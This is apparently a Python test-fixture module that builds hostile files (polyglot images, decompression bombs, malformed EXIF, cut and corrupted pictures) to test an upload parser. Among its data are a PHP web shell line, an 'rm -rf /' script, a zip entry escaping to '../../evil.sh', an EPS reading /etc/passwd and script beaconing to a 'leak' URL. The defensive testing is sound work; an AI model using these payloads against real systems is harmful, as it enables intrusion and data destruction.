"""Pictures that are damaged, too large, two things at once, or no pictures at all."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from proofs.tests.hostile.base import Hostile, document, invoices, pictures, saved

# Whatever runs says so in the page's title and asks a server that is not ours.
_RUNS = b"document.title='HACKED';new Image().src='http://127.0.0.1:1/leak';alert(1)"
HTML = b"<html><body><script>%s</script></body></html>" % _RUNS
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>%s</script></svg>' % _RUNS
# The harmless text that every virus scanner knows, in two parts so that none finds it here.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def polyglots() -> Iterator[Hostile]:
    """Files that are a picture or a PDF to one reader and something that runs to another."""
    jpeg, png, pdf = pictures()["jpg"], pictures()["png"], invoices()[0]
    for name, tail in {"HTML": HTML, "SVG": SVG, "ZIP": _zip(), "PDF": pdf, "PHP": _PHP}.items():
        yield Hostile(f"JPEG that ends as {name}", jpeg + tail, "photo.html")
        yield Hostile(f"PNG that ends as {name}", png + tail, "photo.html")
        yield document(f"PDF that ends as {name}", pdf + tail, "invoice.html")
    for name, comment in {"HTML": HTML, "script": b"*/=1;alert(1)/*", "PHP": _PHP}.items():
        yield Hostile(f"JPEG with {name} in its comment", _with_comment(jpeg, comment))
    yield Hostile("PNG with HTML in its text", _with_chunk(png, b"tEXt", b"Comment\0" + HTML))
    yield document("HTML before a PDF", HTML + pdf)
    yield document("PDF header before HTML", b"%PDF-1.7\n" + HTML)
    yield document("a picture before a PDF", jpeg + pdf)
    yield Hostile("GIF that is a script", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//")


def wrong_types() -> Iterator[Hostile]:
    """What is no picture and no PDF, or the other of the two, under a name that says it is."""
    others = {
        "nothing": b"",
        "one byte": b"\xff",
        "SVG": SVG,
        "HTML": HTML,
        "script": b"#!/bin/sh\nrm -rf /\n",
        "EICAR": EICAR,
        "ZIP": _zip(),
        "TIFF": saved(Image.new("RGB", (4, 4)), "TIFF"),
        "BMP": saved(Image.new("RGB", (4, 4)), "BMP"),
        "GIF": saved(Image.new("RGB", (4, 4)), "GIF"),
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n",
        "PSD": b"8BPS\0\1" + bytes(40),
        "program": b"\x7fELF" + bytes(60),
        "FITS": b"SIMPLE  =                    T" + b" " * 2850,
        "AVIF": b"\0\0\0\x1cftypavif" + bytes(40),
        "zeros": bytes(5000),
    }
    for name, content in others.items():
        yield Hostile(f"{name} as a photo", content, "photo.png")
        yield document(f"{name} as an invoice", content)
    for name, head in _HEADS.items():
        yield Hostile(f"nothing but the head of {name}", head)
    yield Hostile("PDF as a photo", invoices()[0])
    yield document("JPEG as an invoice", pictures()["jpg"], "invoice.pdf")
    yield document("HEIC as an invoice", pictures()["heic"], "invoice.pdf")


def huge_pictures() -> Iterator[Hostile]:
    """Few bytes that claim to be very many pixels, or to become very many bytes."""
    for side in (7_100, 20_000, 40_000, 65_535, 2**31 - 1):
        yield Hostile(f"PNG of {side} by {side}", _png(side, side, zlib.compress(bytes(100))))
    for side in (7_100, 40_000, 65_500):
        yield Hostile(f"JPEG of {side} by {side}", _jpeg_of_size(side))
    yield Hostile("PNG of 1 by 2147483647", _png(1, 2**31 - 1, zlib.compress(bytes(100))))
    yield Hostile("WebP of 16383 by 16383", _webp_of_size(16_383))
    yield Hostile("HEIC of 40000 by 40000", _heic_of_size(40_000))
    yield Hostile("PNG of no pixels", _png(0, 0, zlib.compress(b"")))
    small, bomb = pictures()["png"], zlib.compress(bytes(60_000_000), 9)
    yield Hostile("PNG whose text inflates", _with_chunk(small, b"zTXt", b"Comment\0\0" + bomb))
    yield Hostile("PNG whose profile inflates", _with_chunk(small, b"iCCP", b"icc\0\0" + bomb))
    yield Hostile("PNG whose data never end", _png(100, 100, bomb))
    yield Hostile("PNG of 2000 chunks", _with_chunk(small, b"tEXt", b"a\0b", times=2000))
    yield Hostile("animated WebP", _animated("WEBP"), "photo.webp")
    yield Hostile("animated PNG", _animated("PNG"), "photo.png")


def heavy_pictures() -> Iterator[Hostile]:
    """Pictures just within the limits, which take as much as any picture may."""
    picture = Image.new("L", (7_000, 7_000))
    yield Hostile("PNG of 49 megapixels in few bytes", saved(picture, "PNG", compress_level=6))
    yield Hostile(
        "WebP of 49 megapixels", saved(picture.convert("RGB"), "WEBP", quality=1, method=0)
    )
    yield Hostile("progressive JPEG of 49 megapixels", saved(picture, "JPEG", progressive=True))


def bad_exif(chance: random.Random) -> Iterator[Hostile]:
    """JPEG files whose metadata lie about their size, run in circles or divide by zero."""
    jpeg = saved(Image.new("RGB", (64, 48), "grey"), "JPEG")
    for name, tiff in _TIFFS.items():
        yield Hostile(f"EXIF with {name}", _with_exif(jpeg, tiff))
    for number in range(25):
        tiff = b"II*\0\x08\0\0\0" + chance.randbytes(chance.randrange(20, 900))
        yield Hostile(f"EXIF of random bytes, {number}", _with_exif(jpeg, tiff))


def cut_pictures(chance: random.Random) -> Iterator[Hostile]:
    """Each format cut short, anywhere."""
    while True:
        for ending, content in pictures().items():
            end = chance.randrange(12, len(content))
            yield Hostile(f"{ending} cut at {end}", content[:end], f"photo.{ending}")


def wounded_pictures(chance: random.Random) -> Iterator[Hostile]:
    """Each format with some bytes changed."""
    while True:
        for ending, content in pictures().items():
            data = bytearray(content)
            for _ in range(chance.randrange(1, 30)):
                data[chance.randrange(12, len(data))] = chance.randrange(256)
            yield Hostile(f"{ending} with bytes changed", bytes(data), f"photo.{ending}")


_PHP = b"<?php system($_GET['c']); ?>"
_HEADS = {
    "a JPEG": b"\xff\xd8\xff\xe0",
    "a PNG": b"\x89PNG\r\n\x1a\n",
    "a WebP": b"RIFF\xff\xff\xff\xffWEBPVP8X",
    "a HEIC": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
    "a PDF": b"%PDF-1.7\n",
}
_GPS = 0x8825


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.sh", b"rm -rf /")
        archive.writestr("zeros", bytes(1_000_000))
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _with_chunk(png: bytes, kind: bytes, data: bytes, times: int = 1) -> bytes:
    """The PNG with a chunk after its header."""
    return png[:33] + _chunk(kind, data) * times + png[33:]


def _png(width: int, height: int, compressed: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = _chunk(b"IHDR", header) + _chunk(b"IDAT", compressed) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def _jpeg_of_size(side: int) -> bytes:
    jpeg = bytearray(saved(Image.new("L", (16, 16)), "JPEG"))
    at = jpeg.index(b"\xff\xc0") + 5
    jpeg[at : at + 4] = struct.pack(">HH", side, side)
    return bytes(jpeg)


def _webp_of_size(side: int) -> bytes:
    extended = struct.pack("<I", 0)[:4] + struct.pack("<I", side - 1)[:3] * 2
    rest = pictures()["webp"][12:]
    body = b"WEBPVP8X" + struct.pack("<I", len(extended)) + extended + rest
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _heic_of_size(side: int) -> bytes:
    heic = bytearray(pictures()["heic"])
    at = heic.index(b"ispe") + 8
    heic[at : at + 8] = struct.pack(">II", side, side)
    return bytes(heic)


def _animated(written_as: str) -> bytes:
    frames = [Image.new("RGB", (80, 60), (shade, 0, 0)) for shade in range(0, 250, 5)]
    return saved(frames[0], written_as, save_all=True, append_images=frames[1:])


def _with_comment(jpeg: bytes, comment: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def _with_exif(jpeg: bytes, tiff: bytes) -> bytes:
    data = b"Exif\0\0" + tiff
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


def _tiff(*entries: tuple[int, int, int, bytes], rest: bytes = b"", following: int = 0) -> bytes:
    """A little-endian table of tags: (tag, type, count, four bytes of value or place)."""
    table = b"".join(struct.pack("<HHI", *entry[:3]) + entry[3] for entry in entries)
    head = b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries))
    return head + table + struct.pack("<I", following) + rest


def _place(number: int) -> bytes:
    return struct.pack("<I", number)


_ZERO_BY_ZERO = struct.pack("<II", 0, 0) * 3
_TIFFS = {
    "a table that follows itself": _tiff((0x010E, 2, 4, b"abc\0"), following=8),
    "a GPS table that is the first table": _tiff((_GPS, 4, 1, _place(8))),
    "a GPS table past the end": _tiff((_GPS, 4, 1, _place(2**31))),
    "four billion values": _tiff((0x010E, 2, 2**32 - 1, _place(26))),
    "a value past the end": _tiff((0x010E, 2, 50_000, _place(60_000))),
    "65535 tags": b"II*\0\x08\0\0\0\xff\xff" + bytes(200),
    "an unknown type": _tiff((0x010E, 99, 4, b"abcd")),
    "0/0 degrees": _tiff(
        (_GPS, 4, 1, _place(26)),
        rest=struct.pack("<H", 2)
        + struct.pack("<HHI", 2, 5, 3)
        + _place(56)
        + struct.pack("<HHI", 4, 5, 3)
        + _place(56)
        + _place(0)
        + _ZERO_BY_ZERO,
    ),
    "a time that is none": _tiff((0x0132, 2, 20, _place(26)), rest=b"9999:99:99 99:99:99\0"),
    "a turn that is none": _tiff((0x0112, 3, 1, struct.pack("<HH", 900, 0))),
}
